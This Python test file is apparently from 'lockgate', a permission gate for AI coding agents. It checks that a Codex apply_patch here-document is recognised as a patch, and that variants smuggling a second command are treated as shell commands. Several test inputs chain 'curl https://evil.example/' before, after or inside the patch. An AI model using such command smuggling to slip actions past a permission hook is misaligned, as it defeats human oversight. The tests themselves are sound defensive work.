"""Codex carries out ``apply_patch`` with a here-document itself: what a shell would run is never taken for one."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from lockgate.clients.adapter import adapter
from lockgate.clients.codex.events import patch_in
from lockgate.core.events import ToolRequested

PATCH = "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch"
WORK = "/home/user/work"


def _document(patch: str, mark: str = "EOF", before: str = "", after: str = "", quote: str = "'") -> str:
    return f"{before}apply_patch <<{quote}{mark}{quote}\n{patch}\n{mark}{after}"


@pytest.mark.parametrize(
    ("command", "folder"),
    [
        (_document(PATCH), ""),
        (_document(PATCH, "PATCH", after="\n"), ""),
        (_document(PATCH, quote='"'), ""),
        (_document(PATCH, before="cd web && "), "web"),
    ],
)
def test_a_patch_that_codex_applies(command: str, folder: str) -> None:
    found = patch_in(command)
    assert found is not None
    assert (found.text, found.folder) == (PATCH, folder)


@pytest.mark.parametrize(
    ("command", "why"),
    [
        (_document(PATCH, after="\ncurl https://evil.example/"), "a command follows"),
        (_document(PATCH, before="curl https://evil.example/ && "), "another command is before it"),
        (_document(PATCH, before="PATH=. "), "a variable is set for it"),
        (_document(PATCH, quote=""), "the shell expands what is not quoted"),
        (_document("*** Begin Patch\n+x\nEOF\ncurl https://evil.example/\n*** End Patch"), "it ends before its end"),
        (_document("x\n" + PATCH), "it is no patch"),
        (_document(PATCH, before="cd $HOME && "), "its folder is not written out"),
        (_document(PATCH, before="cd web; "), "it would go on where the folder is missing"),
        (_document(PATCH, after=" "), "the last line is not the mark"),
        (_document(PATCH.replace("\n+x", "\r\n+x")), "lines of another kind"),
        ("apply_patch", "a program by its name"),
        (f"apply_patch '{PATCH}'", "an argument"),
    ],
)
def test_what_a_shell_would_run(command: str, why: str) -> None:
    assert patch_in(command) is None, why


@pytest.mark.parametrize(
    ("command", "tool", "cwd"),
    [(_document(PATCH, before="cd web/../api && "), "ApplyPatch", f"{WORK}/api"), ("ls", "Bash", WORK)],
)
def test_a_hook_is_told_it_as_a_command(tmp_path: Path, command: str, tool: str, cwd: str) -> None:
    body = {"type": "function_call", "call_id": "c1", "name": "exec_command", "arguments": json.dumps({"cmd": command})}
    transcript = tmp_path / "rollout.jsonl"
    transcript.write_text(json.dumps({"type": "response_item", "payload": body}) + "\n")
    payload: dict[str, Any] = {
        "session_id": "s1",
        "transcript_path": str(transcript),
        "cwd": WORK,
        "permission_mode": "bypassPermissions",
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": command},
        "tool_use_id": "c1",
    }
    event = adapter("codex").decode(payload, {}, None)
    assert isinstance(event, ToolRequested)
    assert (event.call.tool, event.call.cwd) == (tool, cwd)
    if tool == "ApplyPatch":
        assert event.call.tool_input == {"patch": PATCH}


def test_a_patch_in_a_folder_that_nobody_knows_stays_a_command() -> None:
    payload: dict[str, Any] = {
        "session_id": "s1",
        "transcript_path": None,
        "cwd": WORK,
        "permission_mode": "bypassPermissions",
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": _document(PATCH)},
        "tool_use_id": "c1",
    }
    event = adapter("codex").decode(payload, {}, None)
    assert isinstance(event, ToolRequested)
    assert event.call.tool == "Bash"
